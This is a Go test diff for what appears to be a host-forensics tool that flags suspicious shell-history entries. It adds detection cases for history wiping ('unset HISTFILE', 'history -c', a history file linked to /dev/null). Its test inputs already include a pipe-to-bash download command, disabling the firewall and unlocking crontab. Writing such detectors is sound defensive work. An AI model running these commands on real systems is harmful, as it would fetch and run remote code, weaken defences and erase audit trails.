@@ -18,6 +18,7 @@ func TestHistory(t *testing.T) {
 		"11-22 18:01:40 history root  /root/.bash_history:12 vi /etc/ssh/sshd_config",
 		"11-22 18:03:20 history dev  /home/dev/.zsh_history:1 sudo systemctl disable firewalld",
 		"11-22 18:06:40 history dev  /home/dev/.zsh_history:3 pkill -9 xmrig",
+		"11-22 19:37:00 log-wiped root  /root/.ash_history:0 ", // a link to /dev/null
 	}
 	if d := cmp.Diff(want, events(s)); d != "" || c.State != fact.Seen {
 		t.Error(c, d)
@@ -28,7 +29,7 @@ func TestTellsSomething(t *testing.T) {
 	for line, want := range map[string]bool{
 		"echo iptables": false, "nft list ruleset": true, "cat /etc/crontab": true, "curl https://x/y": false,
 		"sudo chattr -i /etc/crontab": true, "kill -9 812": true, "ls kill -9": false, "wget -qO- x.com/a|bash": true,
-		"systemctl enable x": true, "systemctl restart x": false, "": false, strings.Repeat("a", 1<<20): false,
+		"unset HISTFILE": true, "history -c": true, "history | less": false, "systemctl enable x": true, "systemctl restart x": false, "": false, strings.Repeat("a", 1<<20): false,
 	} {
 		if _, got := tellsSomething(line); got != want {
 			t.Errorf("%.40q: %v", line, got)
